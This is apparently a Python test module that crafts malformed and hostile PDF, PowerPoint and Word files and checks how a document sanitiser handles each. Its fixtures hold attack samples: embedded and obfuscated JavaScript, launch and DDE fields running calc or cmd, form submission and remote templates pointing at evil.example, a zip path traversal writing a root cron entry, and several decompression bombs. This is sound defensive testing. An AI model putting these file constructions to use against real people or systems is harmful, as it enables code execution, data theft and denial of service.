"""Handouts as people and their enemies send them, made from nothing; and what becomes of each.

`python -m tests.handouts.document_cases` makes them all, takes each through the real check and
prints the table.
"""

import io
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pikepdf

from media.documents.document_check import (
    ACTIVE,
    BOMB,
    BROKEN,
    EMPTY,
    LINKED,
    LOCKED,
    MACROS,
    NO_SLIDES,
    OTHER_OFFICE,
    OTHER_ZIP,
    PORTFOLIO,
    UnusableDocument,
    check_document,
)
from media.files.file_types import NO_HANDOUT, OLD_OFFICE, OLD_OR_LOCKED
from tests.handouts.document_builder import (
    CONTENT,
    archive,
    docx,
    docx_parts,
    links,
    locked,
    pdf,
    pptx,
    pptx_parts,
    script_in_packed_objects,
    stream,
    types,
)

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(64)


@dataclass(frozen=True, slots=True)
class Odd:
    """One odd file: the name it comes under, what it holds, and what must become of it."""

    name: str
    file: str
    make: Callable[[], bytes]
    outcome: str


def taken(kind: str, pages: int = 0, *taken_out: str) -> str:
    """Say that a file is taken, and what was taken out of it."""
    counted = f", {pages} pages" if pages else ""
    return f"taken: {kind}{counted}" + (f", cleaned of {', '.join(taken_out)}" if taken_out else "")


def on_a_page(annotation: bytes, *more: bytes) -> Callable[[], bytes]:
    """Make a PDF with an annotation on its page."""
    return lambda: pdf(annotation, *more, page="/Annots [10 0 R]")


def link_that(action: bytes) -> Callable[[], bytes]:
    """Make a PDF with a place to press that does something."""
    return on_a_page(b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A %s >>" % action)


def packed_file() -> bytes:
    said = stream(b"/Type /EmbeddedFile", b"MZ a program")
    spec = b"<< /Type /Filespec /F (setup.exe) /EF << /F 10 0 R >> >>"
    return pdf(said, spec, catalog="/Names << /EmbeddedFiles << /Names [(a) 11 0 R] >> >>")


def owner_locked() -> bytes:
    """A PDF that everyone may open and nobody may copy from, with a script in it."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(SCRIPT, catalog="/OpenAction 10 0 R"))) as made:
        made.save(out, encryption=pikepdf.Encryption(owner="secret", user=""))
    return out.getvalue()


def flate_bomb() -> bytes:
    """A PDF whose one page draws half a gigabyte of blanks."""
    packer = zlib.compressobj(1)
    blanks = b" " * (16 << 20)
    packed = b"".join(packer.compress(blanks) for _ in range(32)) + packer.flush()
    return pdf(stream(b"/Filter /FlateDecode", packed)).replace(b"/Contents 4 0", b"/Contents 10 0")


def pages_in_a_ring() -> bytes:
    return pdf().replace(b"/Kids [100 0 R]", b"/Kids [2 0 R]  ")


def deep_arrays() -> bytes:
    return pdf(b"[" * 200_000 + b"]" * 200_000, catalog="/Deep 10 0 R")


def bomb() -> bytes:
    """A presentation whose picture unpacks to more than a gigabyte."""
    out = io.BytesIO(pptx("Hello"))
    made = zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED)
    with made, made.open("ppt/media/image1.bmp", "w", force_zip64=True) as part:
        for _ in range(65):
            part.write(bytes(16 << 20))
    return out.getvalue()


def lying_bomb() -> bytes:
    """The same, but its directory says that the picture has a hundred bytes."""
    whole = archive({**pptx_parts("Hello"), "ppt/media/image1.bmp": bytes(64 << 20)})
    return whole.replace(struct.pack("<L", 64 << 20), struct.pack("<L", 100))


def shared_bytes() -> bytes:
    """A presentation with a thousand parts that are one and the same place in the file."""
    out = io.BytesIO(archive({**pptx_parts("Hello"), "ppt/media/a.bmp": bytes(1 << 20)}))
    with zipfile.ZipFile(out, "a") as made:
        one = made.getinfo("ppt/media/a.bmp")
        for number in range(900):
            other = zipfile.ZipInfo(f"ppt/media/b{number}.bmp")
            other.header_offset, other.CRC = one.header_offset, one.CRC
            other.compress_size, other.file_size = one.compress_size, one.file_size
            other.compress_type = one.compress_type
            made.filelist.append(other)
        made._didModify = True
    return out.getvalue()


def many_parts() -> bytes:
    return archive({**pptx_parts("Hello"), **{f"x/{n}": b"" for n in range(25_000)}})


def long_xml() -> bytes:
    return pptx("Hello", more={"ppt/big.xml": b" " * (70 << 20)})


LAUGHS = (
    '<!DOCTYPE p [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {new} "{f"&{old};" * 10}">'
        for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)


def laughs() -> bytes:
    parts = docx_parts("Hello")
    parts["word/document.xml"] = LAUGHS + "<p>&i;</p>"
    return archive(parts)


def passwords() -> bytes:
    """A presentation whose archive says that its parts are encrypted."""
    return pptx("Hello").replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
    )


def with_type(kind: str) -> Callable[[], bytes]:
    return lambda: archive(
        {**pptx_parts("Hello"), "[Content_Types].xml": types(kind, "ppt/presentation.xml")}
    )


def linked(*relation: str) -> Callable[[], bytes]:
    """Make a document that refers to something elsewhere."""
    said = links(("x", *relation, "External"))  # type: ignore[arg-type]
    return lambda: docx("Hello", more={"word/_rels/settings.xml.rels": said})


def instructed(field: str) -> str:
    return f"<w:p><w:r><w:instrText>{field}</w:instrText></w:r></w:p>"


ODD: tuple[Odd, ...] = (
    Odd("a plain PDF", "slides.pdf", lambda: pdf(pages=3), taken("pdf", 3)),
    Odd("a plain presentation", "slides.pptx", lambda: pptx("One", "Two"), taken("pptx", 2)),
    Odd("a plain Word document", "words.docx", lambda: docx("Hello"), taken("docx")),
    Odd("0 bytes", "slides.pdf", lambda: b"", EMPTY),
    Odd("a presentation called PDF", "slides.pdf", lambda: pptx("One"), taken("pptx", 1)),
    Odd("a PDF called presentation", "slides.pptx", pdf, taken("pdf", 1)),
    Odd("a picture called PDF", "slides.pdf", lambda: PICTURE, NO_HANDOUT),
    Odd("a page of the web called PDF", "slides.pdf", lambda: b"<html></html>", NO_HANDOUT),
    Odd("a PDF cut in half", "slides.pdf", lambda: pdf(pages=9)[:700], BROKEN),
    Odd("a PDF of nothing but its mark", "slides.pdf", lambda: b"%PDF-1.7\n%%EOF", BROKEN),
    Odd("a PDF without pages", "slides.pdf", lambda: pdf(pages=0), BROKEN),
    Odd(
        "a PDF without its table",
        "slides.pdf",
        lambda: pdf().partition(b"xref")[0],
        BROKEN,
    ),
    Odd("a PDF whose pages are a ring", "slides.pdf", pages_in_a_ring, BROKEN),
    Odd("a PDF with 200,000 arrays in arrays", "slides.pdf", deep_arrays, taken("pdf", 1)),
    Odd("a PDF of 10,000 pages", "slides.pdf", lambda: pdf(pages=10_000), taken("pdf", 10_000)),
    Odd("a page 200 m wide", "plan.pdf", lambda: pdf(size=(566_929, 3)), taken("pdf", 1)),
    Odd("a page that unpacks to 512 MB", "slides.pdf", flate_bomb, taken("pdf", 1)),
    Odd("a PDF under a password", "slides.pdf", locked, LOCKED),
    Odd("copying forbidden, with a script", "slides.pdf", owner_locked, taken("pdf", 1, "scripts")),
    Odd("a portfolio", "all.pdf", lambda: pdf(catalog="/Collection << /View /D >>"), PORTFOLIO),
    Odd(
        "a script when it is opened",
        "slides.pdf",
        lambda: pdf(SCRIPT, catalog="/OpenAction 10 0 R"),
        taken("pdf", 1, "scripts"),
    ),
    Odd(
        "a script in disguise",
        "slides.pdf",
        lambda: pdf(b"<< /S /J#61vaScript /J#53 (1) >>", catalog="/OpenAction 10 0 R"),
        taken("pdf", 1, "scripts"),
    ),
    Odd(
        "a script by its name",
        "slides.pdf",
        lambda: pdf(SCRIPT, catalog="/Names << /JavaScript << /Names [(a) 10 0 R] >> >>"),
        taken("pdf", 1, "scripts"),
    ),
    Odd(
        "a script in packed objects",
        "slides.pdf",
        script_in_packed_objects,
        taken("pdf", 1, "scripts"),
    ),
    Odd(
        "a script when a page is shown",
        "slides.pdf",
        lambda: pdf(page="/AA << /O << /S /JavaScript /JS (1) >> >>"),
        taken("pdf", 1, "scripts"),
    ),
    Odd(
        "a link that starts a program",
        "slides.pdf",
        link_that(b"<< /S /Launch /F (calc.exe) >>"),
        taken("pdf", 1, "programs"),
    ),
    Odd(
        "a link to a file of a server",
        "slides.pdf",
        link_that(rb"<< /S /GoToR /F (\\\\evil\\share.pdf) /D [0 /Fit] >>"),
        taken("pdf", 1, "programs"),
    ),
    Odd(
        "a form that is sent",
        "form.pdf",
        link_that(b"<< /S /SubmitForm /F (http://evil.example) >>"),
        taken("pdf", 1, "sending"),
    ),
    Odd(
        "a form of XFA",
        "form.pdf",
        lambda: pdf(stream(b"", b"<xdp/>"), catalog="/AcroForm << /Fields [] /XFA 10 0 R >>"),
        taken("pdf", 1, "sending"),
    ),
    Odd("a program packed into a PDF", "slides.pdf", packed_file, taken("pdf", 1, "files")),
    Odd(
        "a file pinned to a page",
        "slides.pdf",
        on_a_page(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>"),
        taken("pdf", 1, "files"),
    ),
    Odd(
        "a film in a page",
        "slides.pdf",
        on_a_page(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
        taken("pdf", 1, "films"),
    ),
    Odd(
        "a link to the web",
        "slides.pdf",
        link_that(b"<< /S /URI /URI (https://library.example) >>"),
        taken("pdf", 1),
    ),
    Odd("a presentation cut in half", "slides.pptx", lambda: pptx("One" * 999)[:900], BROKEN),
    Odd("a presentation without slides", "slides.pptx", pptx, NO_SLIDES),
    Odd("a ZIP archive", "slides.pptx", lambda: archive({"slides.pdf": pdf()}), OTHER_ZIP),
    Odd(
        "a spreadsheet",
        "table.pptx",
        with_type(CONTENT + "spreadsheetml.sheet.main+xml"),
        OTHER_OFFICE,
    ),
    Odd(
        "an old or locked Office file", "slides.ppt", lambda: OLD_OFFICE + bytes(999), OLD_OR_LOCKED
    ),
    Odd("an archive under a password", "slides.pptx", passwords, LOCKED),
    Odd(
        "macros by the file's type",
        "slides.pptx",
        with_type("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
        MACROS,
    ),
    Odd(
        "macros in a part",
        "words.docx",
        lambda: docx("Hello", more={"word/vbaProject.bin": OLD_OFFICE}),
        MACROS,
    ),
    Odd(
        "a template from elsewhere",
        "words.docx",
        linked("attachedTemplate", "http://evil.example/t.dotm"),
        LINKED,
    ),
    Odd(
        "an object from elsewhere",
        "words.docx",
        linked("oleObject", "mhtml:http://evil.example"),
        LINKED,
    ),
    Odd(
        "a picture from elsewhere",
        "words.docx",
        linked("image", "http://evil.example/1.png"),
        LINKED,
    ),
    Odd(
        "a link to the web in Word",
        "words.docx",
        linked("hyperlink", "https://a.example"),
        taken("docx"),
    ),
    Odd(
        "a field that starts a program",
        "words.docx",
        lambda: docx("Hello", inside=instructed("DDE") + instructed("AUTO cmd /k calc")),
        ACTIVE,
    ),
    Odd(
        "a control of ActiveX",
        "words.docx",
        lambda: docx("Hello", more={"word/activeX/activeX1.xml": "<a/>"}),
        ACTIVE,
    ),
    Odd(
        "a program packed into a slide",
        "slides.pptx",
        lambda: pptx(
            "One", more={"ppt/embeddings/o.bin": OLD_OFFICE + "\x01Ole10Native".encode("utf-16-le")}
        ),
        ACTIVE,
    ),
    Odd("a presentation that unpacks to 1 GB", "slides.pptx", bomb, BOMB),
    Odd("one whose directory lies", "slides.pptx", lying_bomb, BROKEN),
    Odd("one whose parts share their bytes", "slides.pptx", shared_bytes, BOMB),
    Odd("one of 25,000 parts", "slides.pptx", many_parts, BOMB),
    Odd("one part of 70 MB of XML", "slides.pptx", long_xml, BOMB),
    Odd("XML whose entities multiply", "words.docx", laughs, BROKEN),
    Odd(
        "a part outside its folder",
        "slides.pptx",
        lambda: pptx("One", more={"../../etc/cron.d/x": "* * * * * root sh"}),
        BROKEN,
    ),
)


def become(odd: Odd, folder: Path) -> str:
    """Make an odd file, have it checked, and say what became of it."""
    path = folder / "sent"
    path.write_bytes(odd.make())
    try:
        found = check_document(path, folder / "clean")
    except UnusableDocument as refused:
        return refused.sentence
    return taken(found.kind, found.pages, *found.taken_out)


def table() -> Iterator[tuple[str, str]]:
    """Yield each odd file's name and what became of it."""
    for odd in ODD:
        with tempfile.TemporaryDirectory(prefix="carrel-odd-") as folder:
            yield odd.name, become(odd, Path(folder))


if __name__ == "__main__":
    for name, outcome in table():
        print(f"{name:<38} {outcome}", flush=True)  # noqa: T201  (the table)
